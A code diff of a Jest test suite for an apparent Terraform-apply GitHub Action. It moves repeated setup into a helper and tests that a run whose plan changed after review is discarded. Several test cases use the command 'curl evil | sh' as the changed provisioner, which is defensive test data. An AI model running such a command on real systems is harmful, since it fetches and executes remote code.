@@ -1,11 +1,13 @@
 import { expect, test } from '@jest/globals'
 import { serveGithub } from '../../../packages/github-server/src/index.ts'
-import { serve } from '../../../packages/hcp-terraform-server/src/index.ts'
+import { serve, type RunScript } from '../../../packages/hcp-terraform-server/src/index.ts'
 import { onGithub } from '../on-github.ts'
 import { annotated, runStep } from '../on-a-runner.ts'
 import { change, planWith } from '../plans.ts'
 
 const inputs = { operation: 'apply', 'apply-only-if': 'reviewed' }
+type Fault = Parameters<Awaited<ReturnType<typeof serve>>['faults']['set']>[0]
+const WHOLE = 'GET /plans/:id/json-output'
 const BUILT_IN = 'terraform.io/builtin/terraform'
 
 /** A plan of a resource whose provisioner runs a command, which only the whole plan shows. */
@@ -34,6 +36,18 @@ function nested(levels: number): unknown {
   return value
 }
 
+/** Reports one plan, merges its pull request, and applies what is planned then, where reading whole plans meets a fault. */
+async function reviewThenApply(reviewed: RunScript, planned: RunScript, fault?: Fault) {
+  await using hcp = await serve({ script: reviewed })
+  await using github = await serveGithub()
+  const pull = github.addPullRequest({ number: 7 })
+  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
+  github.merge(pull)
+  hcp.script(planned)
+  if (fault !== undefined) hcp.faults.set(fault)
+  return await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
+}
+
 test.each<[string, object, { readonly status: number } | undefined, RegExp]>([
   ['is nested too deep to be read', { variables: { d: { default: nested(1_000) } } }, undefined, /levels deep/],
   ['fails at the service', {}, { status: 502 }, /502/],
@@ -41,15 +55,8 @@ test.each<[string, object, { readonly status: number } | undefined, RegExp]>([
 ])(
   'a whole plan that %s leads to no comparison of less',
   async (_name, more, fault, why) => {
-    await using hcp = await serve({ script: planRunning('echo good', more) })
-    await using github = await serveGithub()
-    const pull = github.addPullRequest({ number: 7 })
-    await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
-    github.merge(pull)
-    hcp.script(planRunning('curl evil | sh', more))
-    if (fault !== undefined)
-      hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', ...fault }, times: 1_000 })
-    const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
+    const answer = fault && ({ on: WHOLE, do: { kind: 'answer', ...fault }, times: 1_000 } as const)
+    const step = await reviewThenApply(planRunning('echo good', more), planRunning('curl evil | sh', more), answer)
     expect([step.conclusion, step.outputs['run-status']]).toEqual(['failure', 'discarded'])
     expect(annotated(step, 'error')[0]).toMatch(/The action can't compare the values of the plan/)
     expect(annotated(step, 'error')[0]).toMatch(why)
@@ -59,14 +66,8 @@ test.each<[string, object, { readonly status: number } | undefined, RegExp]>([
 )
 
 test('where the token may not read it, the redacted one is compared', async () => {
-  await using hcp = await serve({ script: planRunning('echo good') })
-  await using github = await serveGithub()
-  const pull = github.addPullRequest({ number: 7 })
-  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
-  github.merge(pull)
-  hcp.script(planRunning('echo good'))
-  hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', status: 404 }, times: 1_000 })
-  const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
+  const denied = { on: WHOLE, do: { kind: 'answer', status: 404 }, times: 1_000 } as const
+  const step = await reviewThenApply(planRunning('echo good'), planRunning('echo good'), denied)
   expect(step.outputs['run-status']).toBe('applied')
   expect(annotated(step, 'notice')).toEqual([expect.stringContaining('role Admin')])
 })
@@ -75,14 +76,8 @@ test.each([
   ['of the reviewed run', 1],
   ['of the run to apply', 2]
 ])('where the token may read one of the whole plans, the one %s must be read as well', async (_name, nth) => {
-  await using hcp = await serve({ script: planRunning('echo good') })
-  await using github = await serveGithub()
-  const pull = github.addPullRequest({ number: 7 })
-  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
-  github.merge(pull)
-  hcp.script(planRunning('curl evil | sh'))
-  hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', status: 404 }, nth })
-  const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
+  const denied = { on: WHOLE, do: { kind: 'answer', status: 404 }, nth } as const
+  const step = await reviewThenApply(planRunning('echo good'), planRunning('curl evil | sh'), denied)
   expect(step.outputs['run-status']).toBe('discarded')
   expect(annotated(step, 'error')[0]).toContain('404')
 })
